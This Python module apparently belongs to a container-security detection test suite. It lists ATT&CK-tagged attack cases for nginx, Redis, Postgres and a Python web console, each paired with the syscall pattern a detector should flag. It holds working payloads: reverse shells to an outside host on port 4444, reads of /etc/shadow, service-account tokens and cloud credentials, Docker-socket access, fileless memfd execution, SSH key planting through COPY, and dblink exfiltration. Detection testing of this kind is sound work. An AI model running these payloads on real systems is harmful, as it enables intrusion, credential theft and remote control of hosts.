"""Attacks without a shell: what the process that was taken over does itself, and what comes in through the runtime."""
import subprocess

from attacks.attack import Attack
from attacks.shell import HOME, TOKEN
from node import OUTSIDE

C2 = OUTSIDE.replace(".", ", ")


def outside(technique, title, act, told):
    return Attack(technique, title, act, told, way="outside")


def session(service, replica):
    return replica.node.podman("exec", replica.name, "sh", "-c", "id", check=False) != ""


def entered(service, replica):
    words = ["nsenter", "-t", str(replica.server.pid), "-m", "-p", "-n", "-i", "-u", "-C", "cat", "/etc/group"]
    return subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True).returncode == 0


OUTSIDE_ATTACKS = [
    outside("T1059.013", "a command through the container engine", session, ("exec", r"/(dash|sh|id)$")),
    outside("T1609", "a process of the host enters the container", entered, ("exec", r"/cat$")),
]


def worker(technique, title, code, told, *signs):
    return Attack(
        technique, title, lambda service, replica: service.within_worker(replica, code), told, way="inside", signs=signs)


NGINX = [
    worker("T1005", "the worker reads the accounts", 'return done(C.open("/etc/passwd", 0) > 0)', ("open", r"^/etc/passwd$")),
    worker("T1528", "the worker reads the service account's token", f'return done(C.open("{TOKEN}", 0) > 0)', ("open", r"/token$")),
    worker("T1552.001", "the worker reads a cloud credential", f'return done(C.open("{HOME}/.aws/credentials", 0) > 0)',
           ("open", r"/\.aws/credentials$")),
    worker("T1552.007", "the worker speaks to the engine's socket", """
        local s, name = C.socket(1, 1, 0), ffi.new("uint8_t[110]", {1, 0})
        ffi.copy(name + 2, "/run/docker.sock")
        return done(C.connect(s, name, 110) == 0)""", ("connect", r"/docker\.sock")),
    worker("T1071.001", "the worker connects to its master", f"""
        local s = C.socket(2, 1, 0)
        local worked = C.connect(s, address(443, {C2}), 16) == 0
        C.close(s)
        return done(worked)""", ("connect", r":443$")),
    worker("T1571", "the worker listens at a port of its own", """
        local s = C.socket(2, 1, 0)
        local worked = C.bind(s, address(4545, 0, 0, 0, 0), 16) == 0 and C.listen(s, 1) == 0
        C.close(s)
        return done(worked)""", ("listen", r":4545$")),
    worker("T1074.001", "the worker lays data down", 'return done(C.creat("/tmp/.w", 420) > 0)', ("open", r"^/tmp/\.w$")),
    worker("T1620", "the worker runs what has no file", """
        local m, f = C.memfd_create("w", 0), C.open("/bin/true", 0)
        local data, size = ffi.new("char[65536]"), 0
        repeat size = C.read(f, data, 65536); C.write(m, data, size) until size <= 0
        return done(run("/proc/self/fd/" .. tonumber(m), {"true"}))""", ("exec", r"memfd:")),
    worker("T1059.004", "the worker gives the attacker a shell", f"""
        local child = C.fork()
        if child == 0 then
          local s = C.socket(2, 1, 0)
          C.connect(s, address(4444, {C2}), 16)
          for d = 0, 2 do C.dup2(s, d) end
          C.execve("/bin/sh", ffi.new("const char *[2]", {{"sh"}}), nil)
          C._exit(1)
        end
        return done(child > 0)""", ("exec", r"/(dash|sh)$"), ("connect", r":4444$")),
    worker("T1129", "the worker loads a library of the attacker's", """
        local f, m = C.open("/tmp/front.so", 0), C.creat("/tmp/mod.so", 493)
        local data, size = ffi.new("char[65536]"), 0
        repeat size = C.read(f, data, 65536); C.write(m, data, size) until size <= 0
        C.close(m)
        return done(C.dlopen("/tmp/mod.so", 2) ~= nil)""", ("open", r"^/tmp/mod\.so$")),
]


def module(technique, title, words, told, *signs):
    return Attack(
        technique, title, lambda service, replica: service.within_worker(replica, words), told, way="inside", signs=signs)


REDIS = [
    module("T1005", "the server reads the accounts", ["run.open", "/etc/passwd"], ("open", r"^/etc/passwd$")),
    module("T1528", "the server reads the service account's token", ["run.open", TOKEN], ("open", r"/token$")),
    module("T1552.001", "the server reads a cloud credential", ["run.open", f"{HOME}/.aws/credentials"],
           ("open", r"/\.aws/credentials$")),
    module("T1552.007", "the server speaks to the engine's socket", ["run.speak", "/run/docker.sock"], ("connect", r"/docker\.sock")),
    module("T1071.001", "the server connects to its master", ["run.connect", OUTSIDE, "443"], ("connect", r":443$")),
    module("T1571", "the server listens at a port of its own", ["run.listen", "4545"], ("listen", r":4545$")),
    module("T1074.001", "the server lays data down", ["run.open", "/tmp/.w", "w"], ("open", r"^/tmp/\.w$")),
    module("T1620", "the server runs what has no file", ["run.fileless"], ("exec", r"memfd:")),
    module("T1059.004", "the server gives the attacker a shell", ["run.connect", OUTSIDE, "4444", "shell"],
           ("exec", r"/(dash|sh)$"), ("connect", r":4444$")),
]


def statement(technique, title, text, told, *signs):
    return module(technique, title, text, told, *signs)


POSTGRES = [
    statement("T1005", "the database reads the accounts", "select pg_read_file('/etc/passwd')", ("open", r"^/etc/passwd$")),
    statement("T1528", "the database reads the service account's token", f"select pg_read_file('{TOKEN}')", ("open", r"/token$")),
    statement("T1552.001", "the database reads a cloud credential", f"select pg_read_file('{HOME}/.aws/credentials')",
              ("open", r"/\.aws/credentials$")),
    statement("T1003.007", "the database reads its own environment", "select length(pg_read_binary_file('/proc/self/environ'))",
              ("open", r"/environ$")),
    statement("T1505.001", "a function of a library that came along", "select lo_from_bytea(4242, pg_read_binary_file('/tmp/lib.so'));"
              "select lo_export(4242, '/tmp/udf.so'); load '/tmp/udf.so'", ("open", r"^/tmp/udf\.so$")),
    statement("T1098.004", "a key that may log in, by COPY",
              "copy (select 'ssh-ed25519 AAAA x') to '/var/lib/postgresql/authorized_keys'", ("open", r"/authorized_keys$")),
    statement("T1074.001", "the database lays data down", "copy pg_class to '/tmp/.dump'", ("open", r"^/tmp/\.dump$")),
    statement("T1041", "data leave through a foreign connection",
              "create extension if not exists dblink; do $$ begin perform dblink_connect('x', 'host=" + OUTSIDE +
              " port=443 user=x password=x connect_timeout=2'); exception when others then null; end $$",
              ("connect", r":443$")),
    statement("T1083", "the database lists directories", "select pg_ls_dir('/home/deploy')", ("open", r"^/home/deploy$")),
]


def console(technique, title, code, told, *signs):
    return module(technique, title, code + "\nprint('DONE')", told, *signs)


WEBAPP = [
    console("T1005", "the application reads the accounts", "open('/etc/passwd').read()", ("open", r"^/etc/passwd$")),
    console("T1003.008", "the application reads password hashes", "open('/etc/shadow').read()", ("open", r"^/etc/shadow$")),
    console("T1528", "the application reads the service account's token", f"open('{TOKEN}').read()", ("open", r"/token$")),
    console("T1552.001", "the application reads a cloud credential", f"open('{HOME}/.aws/credentials').read()",
            ("open", r"/\.aws/credentials$")),
    console("T1003.007", "the application reads its own environment", "open('/proc/self/environ').read()", ("open", r"/environ$")),
    console("T1552.007", "the application speaks to the engine's socket",
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/docker.sock')", ("connect", r"/docker\.sock")),
    console("T1071.001", "the application connects to its master",
            f"import socket\nsocket.create_connection(('{OUTSIDE}', 443)).close()", ("connect", r":443$")),
    console("T1571", "the application listens at a port of its own",
            "import socket\nsocket.create_server(('0.0.0.0', 4545)).close()", ("listen", r":4545$")),
    console("T1505.003", "a template of the application is planted", "open('/usr/lib/python3/dist-packages/shop_hook.py', 'w').write('')",
            ("open", r"/shop_hook\.py$")),
    console("T1074.001", "the application lays data down", "open('/tmp/.w', 'w').write('x')", ("open", r"^/tmp/\.w$")),
    console("T1620", "the application runs what has no file",
            "import os\nm = os.memfd_create('w', 0)\nos.write(m, open('/bin/true', 'rb').read())\n"
            "if os.fork() == 0:\n  os.execv(f'/proc/self/fd/{m}', ['true'])\nos.wait()", ("exec", r"memfd:")),
    console("T1059.004", "the application gives the attacker a shell",
            "import os, socket\nif os.fork() == 0:\n"
            f"  s = socket.create_connection(('{OUTSIDE}', 4444))\n  [os.dup2(s.fileno(), d) for d in range(3)]\n"
            "  os.execv('/bin/sh', ['sh'])", ("exec", r"/(dash|sh)$"), ("connect", r":4444$")),
    console("T1129", "the application loads a library that came along",
            "import ctypes, shutil\nshutil.copy('/tmp/front.so', '/tmp/mod.so')\nctypes.CDLL('/tmp/mod.so')", ("open", r"^/tmp/mod\.so$")),
]
